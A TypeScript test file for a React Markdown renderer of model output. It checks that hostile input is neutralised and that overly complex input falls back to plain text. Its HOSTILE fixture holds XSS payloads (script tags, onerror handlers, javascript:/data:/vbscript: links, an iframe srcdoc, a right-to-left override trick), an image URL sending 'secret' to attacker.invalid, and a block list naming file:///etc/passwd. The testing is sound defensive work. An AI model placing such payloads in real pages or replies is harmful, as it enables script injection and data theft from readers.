// @vitest-environment jsdom
import { cleanup, render } from "@testing-library/react";
import { afterEach, describe, expect, it } from "vitest";
import { blocksOf, isHeavy } from "./blocks";
import { Markdown } from "./Markdown";
import { followable } from "./safety";

afterEach(cleanup);

const HOSTILE = `# ok

<script>document.title="x"</script> <img src=x onerror=alert(1)>

![a](https://attacker.invalid/?q=secret) [b](javascript:alert(1)) [c](data:text/html,<script>1</script>)

<style>*{display:none}</style><iframe srcdoc="<script>1</script>"></iframe>

[d]: javascript:alert(2)

[click][d] <a href="vbscript:x">e</a> \u202Etxt.exe
`;

function html(text: string, live = false): HTMLElement {
  return render(<Markdown text={text} live={live} />).container;
}

describe("Markdown of a model", () => {
  it.each([true, false])("makes no element that loads, runs or styles (live: %s)", (live) => {
    const page = html(HOSTILE, live);
    expect(page.querySelector("script, img, style, iframe, object, embed, form, input, svg, link")).toBeNull();
    expect(
      [...page.querySelectorAll("*")].flatMap((each) =>
        each.getAttributeNames().filter((name) => /^on|style/.test(name)),
      ),
    ).toEqual([]);
    expect([...page.querySelectorAll("a")].map((each) => new URL(each.href).protocol)).toEqual(["https:"]);
  });

  it("shows raw HTML and characters that turn text around as what they are", () => {
    const text = html(HOSTILE).textContent;
    expect(text).toContain("<script>");
    expect(text).toContain("onerror=alert(1)");
    expect(text).toContain("\\u202etxt.exe");
  });

  it("shows an image as a link that says where it leads", () => {
    const link = html("![chart](https://example.org/a.png)").querySelector("a");
    expect(link?.textContent).toBe("[image: chart] (example.org)");
    expect(link?.rel).toContain("noreferrer");
  });

  it("colours closed code alone", () => {
    const code = "```python\nx = 'a'\n```\n";
    expect(html(code).querySelector(".hljs-string")).not.toBeNull();
    expect(html("```python\nx = 'a'", true).querySelector(".hljs-string")).toBeNull();
    expect(html(`${code}\nnext`, true).querySelector(".hljs-string")).not.toBeNull();
  });

  it("ends as if it had come whole", () => {
    const text = "# T\n\nsome *text* with [a link][r]\n\n- one\n- two\n\n[r]: https://example.org/\n";
    const { container, rerender } = render(<Markdown text={text.slice(0, 9)} live />);
    for (let n = 10; n <= text.length; n += 3) rerender(<Markdown text={text.slice(0, n)} live />);
    rerender(<Markdown text={text} live={false} />);
    expect(container.innerHTML).toBe(html(text).innerHTML);
  });

  it("shows as plain text what would take too long", () => {
    const deep = Array.from({ length: 3_000 }, (_, n) => `${"  ".repeat(n)}- item ${n}`).join("\n");
    expect(html(deep).querySelector("li")).toBeNull();
    expect(isHeavy(deep)).toBe(true);
    expect(isHeavy("word".repeat(50_000))).toBe(true);
    expect(isHeavy(">".repeat(500))).toBe(true);
    expect(isHeavy("[".repeat(9_000))).toBe(true);
    expect(isHeavy("1. ".repeat(500))).toBe(true);
    expect(isHeavy("- a\n".repeat(20_000))).toBe(true);
    expect(isHeavy("| a ".repeat(60).concat("\n").repeat(200))).toBe(true);
    expect(isHeavy("| a ".repeat(20).concat("\n").repeat(200))).toBe(false);
  });

  it("is no heavier for what its code looks like", () => {
    const code = "x[0] = a_b * c  # | |\n\n".repeat(2_000);
    expect(isHeavy(`\`\`\`python\n${code}\`\`\`\n\nthat is all`)).toBe(false);
    expect(isHeavy(`\`\`\`python\n\`\`\`\n${code}`)).toBe(true);
    expect(isHeavy(`<div>\n\`\`\`\n\n${code}`)).toBe(true);
  });
});

describe("blocks", () => {
  it("heals what is not finished and leaves what is", () => {
    const blocks = blocksOf("first *one*\n\nthen **bold");
    expect(blocks).toEqual([
      { text: "first *one*", closed: true },
      { text: "then **bold**", closed: false },
    ]);
  });

  it("together are the whole text", () => {
    const text = "# a\n\nb\n\n```js\nc\n\nd\n```\n\n- e\n\n  f\n\n> g";
    expect(
      blocksOf(text)
        .map((each) => each.text)
        .join("")
        .replace(/\s/g, ""),
    ).toBe(text.replace(/\s/g, ""));
  });
});

describe("links", () => {
  it.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,x",
    "vbscript:x",
    "file:///etc/passwd",
    "blob:x",
    "/api/turns",
    "//host/x",
    "",
    undefined,
  ])("of %s are not followed", (address) => expect(followable(address)).toBeNull());
  it.each(["https://example.org/", "http://localhost:1/", "mailto:a@b.c"])("of %s are", (address) => {
    expect(followable(address)).not.toBeNull();
  });
});
